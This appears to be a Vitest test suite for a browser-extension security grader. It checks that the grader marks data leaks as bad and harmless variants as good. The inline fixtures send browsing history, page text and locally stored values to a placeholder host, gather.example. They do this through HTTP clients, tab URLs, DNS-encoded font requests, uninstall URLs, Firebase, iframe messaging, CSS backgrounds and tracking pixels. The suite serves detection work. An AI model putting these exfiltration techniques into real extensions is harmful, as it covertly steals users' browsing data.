import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const HISTORY = "await chrome.history.search({ text: '' })";
const manifest = { permissions: ['history', 'alarms', 'cookies'], host_permissions: ['https://own.example/*'] };

describe('data that leaves at an address which is written elsewhere', () => {
  const alarm = (body: string): string =>
    `chrome.alarms.onAlarm.addListener(async () => { const rows = DATA; ${body} });`;

  it.each([
    [
      'a client whose base its maker’s caller tells',
      `((lib) => { class Api { constructor(base) { this.http = lib.create({ baseURL: base }); } tell(rows) { return this.http.post('/v1', { rows }); } }
       const api = new Api('https://gather.example'); ${alarm('api.tell(rows);')} })(...self.load());`,
    ],
    [
      'a tab',
      `class News { constructor(page) { this.page = page; } open(rows) { const u = new URL(this.page); u.searchParams.set('l', btoa(JSON.stringify(rows))); chrome.tabs.create({ url: u.href }); } }
       const news = new News('https://gather.example/new'); ${alarm('news.open(rows);')}`,
    ],
    [
      'a style, by the name of a host',
      `class Fonts { constructor(zone) { this.zone = zone; } probe(rows) { const host = [rows.map((row) => row.id).join(''), 1, this.zone].join('.'); const s = document.createElement('style'); s.textContent = '@font-face { font-family: a; src: url("https://' + host + '/a.woff2") }'; document.head.append(s); } }
       const fonts = new Fonts('f.gather.example'); ${alarm('fonts.probe(rows);')}`,
    ],
    [
      'the farewell page',
      `var App = {}; App.Bye = function (base) { this.base = base; }; App.Bye.prototype.set = function (rows) { var url = this.base + '?l=' + encodeURIComponent(JSON.stringify(rows)); chrome.runtime.setUninstallURL(url.substr(0, 1000)); };
       var bye = new App.Bye('https://gather.example/bye'); ${alarm('bye.set(rows);')}`,
    ],
    [
      'an app of Firebase',
      `((a, b, c, d) => { const app = a({ apiKey: 'k', projectId: 'p', databaseURL: 'https://gather.example' }); const db = b(app); ${alarm("c(d(db, 'rows'), { rows });")} })(...self.load());`,
    ],
  ])('is told: %s', async (_, background) => {
    expect(await graded({ background: background.replace('DATA', HISTORY), manifest })).toMatch(/[CDF]/);
    expect(await graded({ background: background.replace('DATA', '[1, 2]'), manifest })).toMatch(/^A/);
  });

  it.each([
    ['its storage', "await chrome.storage.local.get('page')", /[DF]/],
    ['a server', "await (await fetch('https://own.example/page')).json()", /[DF]/],
    ['the package', "{ page: chrome.runtime.getURL('side.html') }", /^A/],
  ])('is told where a frame’s page comes from %s', async (_, page, grade) => {
    const background = "chrome.storage.local.set({ page: 'https://gather.example/side' });";
    const content = (data: string): string =>
      `let frame = null; (async () => { const { page } = ${page}; frame = document.createElement('iframe'); frame.src = page; frame.onload = tell; document.body.append(frame); })();
       function tell() { frame.contentWindow.postMessage({ text: ${data} }, '*'); }`;
    expect(await graded({ content: content('document.body.innerText'), background })).toMatch(grade);
    expect(await graded({ content: content("'ready'"), background })).toMatch(/^A/);
  });

  const made = "const f = document.createElement('iframe'); document.body.append(f);";
  const tell = "f.contentWindow.postMessage({ text: DATA }, '*');";
  it.each([
    ['an attribute', `${made} f.setAttribute('src', TO); ${tell}`],
    ['its options', `const f = Object.assign(document.createElement('iframe'), { src: TO }); ${tell}`],
    ['a reference', `const r = useRef(); h('iframe', { ref: r, src: TO }); ${tell.replace('f.', 'r.current.')}`],
    ['a window', `const w = window.open(TO); w.postMessage({ text: DATA }, '*');`],
    [
      'a port',
      `${made} f.src = TO; const c = new MessageChannel(); f.contentWindow.postMessage('', '*', [c.port2]); c.port1.postMessage({ text: DATA });`,
    ],
  ])('is told of a frame by %s', async (_, content) => {
    const of = (data: string, to: string): Promise<string> =>
      graded({ content: `setInterval(() => { ${content.replace('DATA', data).replace('TO', to)} }, 9000);` });
    expect(await of('document.body.innerText', "'https://gather.example/side'")).toMatch(/[DF]/);
    expect(await of('document.body.innerText', "chrome.runtime.getURL('side.html')")).toMatch(/^A/);
    expect(await of("'ready'", "'https://gather.example/side'")).toMatch(/^A/);
  });

  it('is told where a style asks for it', async () => {
    const style = (to: string, data: string): string =>
      `const BASE = '${to}'; const texture = () => BASE + '/' + btoa(${data}) + '.png';
       const style = document.createElement('style'); style.textContent = rule(texture()); document.head.append(style);
       function rule(url) { return 'html { background-image: url("' + url + '") }'; }`;
    expect(await graded({ content: style('https://gather.example/t', 'location.pathname') })).toMatch(/[DF]/);
    expect(await graded({ content: style('https://gather.example/t', '"1"') })).toMatch(/^A/);
    // Of the page that it is in.
    expect(await graded({ content: style('', 'location.pathname') })).toMatch(/^A/);
  });

  it.each([
    [
      'a style that a private field holds',
      `class Sheet { #node = null; #rules = []; rule(at, of) { this.#rules.push(at + ' { ' + Object.entries(of).map(([k, v]) => k + ': ' + v).join('; ') + ' }'); return this; }
       put() { this.#node = document.createElement('style'); this.#node.textContent = this.#rules.join(''); document.head.append(this.#node); } drop() { this.#node = null; } }
       const BASE = 'https://gather.example/t'; new Sheet().rule('html', { 'background-image': 'url("' + BASE + '/' + btoa(DATA) + '.png")' }).put();`,
    ],
    [
      'a style of a class as compilers leave it',
      `var S = function () { function t() { this.n = null, this.r = []; } return t.prototype.add = function (t, e) { return this.r.push(t + '{' + e + '}'), this; }, t.prototype.put = function () { this.n = document.createElement('style'), this.n.textContent = this.r.join(''), document.head.appendChild(this.n); }, t; }();
       (new S).add('html', 'background:url(https://gather.example/' + btoa(DATA) + '.png)').put();`,
    ],
    [
      'a picture that a field holds',
      `class Dot { constructor() { this.el = null; } show() { this.el = document.createElement('img'); this.el.src = 'https://gather.example/d.gif?p=' + encodeURIComponent(DATA); } hide() { this.el = null; } } new Dot().show();`,
    ],
    [
      'a frame whose message is for one site',
      `const ORIGIN = 'https://gather.example'; const open = (src) => new Promise((ok) => { const f = document.createElement('iframe'); f.onload = () => ok(f); f.src = src; document.body.append(f); });
       const ready = open(ORIGIN + '/f'); setInterval(async () => (await ready).contentWindow.postMessage({ at: DATA }, ORIGIN), 1000);`,
    ],
    [
      'a frame whose site a class is told',
      `class Box { constructor(origin) { this.origin = origin; this.ready = new Promise((ok) => { const f = document.createElement('iframe'); f.src = origin + '/f'; f.onload = () => ok(f.contentWindow); document.body.append(f); }); } async tell(at) { (await this.ready).postMessage({ at }, this.origin); } }
       new Box('https://gather.example').tell(DATA);`,
    ],
    [
      'a frame that a field holds',
      `class Box { constructor() { const f = document.createElement('iframe'); f.src = 'https://gather.example/f'; document.body.append(f); this.f = f; } tell(at) { this.f.contentWindow.postMessage(at, '*'); } }
       new Box().tell(DATA);`,
    ],
  ])('is told of a page: %s', async (_, content) => {
    expect(await graded({ content: content.replace('DATA', 'location.pathname') })).toMatch(/[CDF]/);
    expect(await graded({ content: content.replace('DATA', '"1"') })).toMatch(/^A/);
  });

  it('is not told where an address in a style is whole, or a message is for the page or a frame of its own', async () => {
    for (const content of [
      `class Sheet { #s = null; #r = []; rule(a, b) { this.#r.push(a + ' { ' + b + ' }'); return this; } put() { this.#s = document.createElement('style'); this.#s.textContent = this.#r.join(''); document.head.append(this.#s); } }
       new Sheet().rule('html', 'background: url(https://gather.example/grain.png)').rule('[data-at="' + location.pathname + '"]', 'color: red').put();`,
      `window.postMessage({ at: location.pathname }, location.origin);`,
      // Any text of a program that gets lost on its ways: an origin has a scheme.
      `class Line { constructor(to) { this.to = to; } tell(win, at) { win.postMessage({ at }, this.to); } } const about = { start: 'line.start', ping: 'line.ping' };
       for (const k in about) new Line(about[k]).tell(parent, location.pathname);`,
      `const f = document.createElement('iframe'); f.src = chrome.runtime.getURL('f.html'); document.body.append(f); f.onload = () => f.contentWindow.postMessage({ at: location.pathname }, chrome.runtime.getURL(''));`,
    ])
      expect(await graded({ content })).toMatch(/^A/);
  });

  it('is not told where what a style is made of is known to be a number', async () => {
    const made = (width: string): string =>
      `const kept = [location.pathname, 'https://gather.example/' + location.pathname + '?a']; const width = (v) => { ${width} }; document.body.style.setProperty('--w', width(kept[n]) + 'px');`;
    expect(await graded({ content: made("return typeof v === 'number' && Number.isFinite(v) ? v : 400;") })).toMatch(
      /^A/,
    );
    for (const width of [
      "return typeof v === 'string' ? v : 400;",
      "if (typeof v === 'number') v = kept[m]; return v;",
      "if (typeof v === 'number') { v = kept[m]; return v; }",
      "return typeof v === 'number' || typeof v === 'string' ? v : 400;",
      "return typeof v === 'number' ? 400 : v;",
    ])
      expect(await graded({ content: made(width) }), width).toMatch(/[CDF]/);
  });
});

describe('data that an address begins with', () => {
  const KEPT = "localStorage.getItem('server')";

  it.each([
    `fetch(${KEPT} + '/api/list');`,
    `fetch(\`\${${KEPT}}?n=\${Date.now()}\`);`,
    `const prefs = { get: (name, other) => localStorage.getItem(name) ?? other }; new Image().src = prefs.get('at', 'https://own.example/a.gif') + '?' + performance.now();`,
  ])('says where it goes, and is not told: %s', async (content) => {
    expect(await graded({ content })).toMatch(/^A/);
  });

  it.each([
    `fetch(${KEPT} + '.c.gather.example/');`,
    `fetch('https://c.gather.example/?c=' + (${KEPT} + '/'));`,
    `fetch(['https://c.gather.example/?c=', ${KEPT} + '/'].join(''));`,
    `fetch(new URL(${KEPT} + '/', 'https://c.gather.example/'));`,
    `const to = new URL('https://c.gather.example/'); to.searchParams.set('a', ${KEPT} + '/'); fetch(to);`,
    `let to = ${KEPT}; if (Math.random() > 0.5) to = 'https://c.gather.example/?c=' + to; fetch(to + '/x');`,
    `const one = ${KEPT} + '/'; fetch('https://' + one.slice(0, -1) + '.c.gather.example/');`,
    `const at = settings.server; fetch(at + '?c=' + ${KEPT});`,
    `fetch('https://c.gather.example/', { method: 'POST', body: ${KEPT} + '/' });`,
  ])('and is told where it stands behind what names the host, or goes on with that: %s', async (content) => {
    expect(await graded({ content })).toMatch(/^[CDF]/);
  });
});
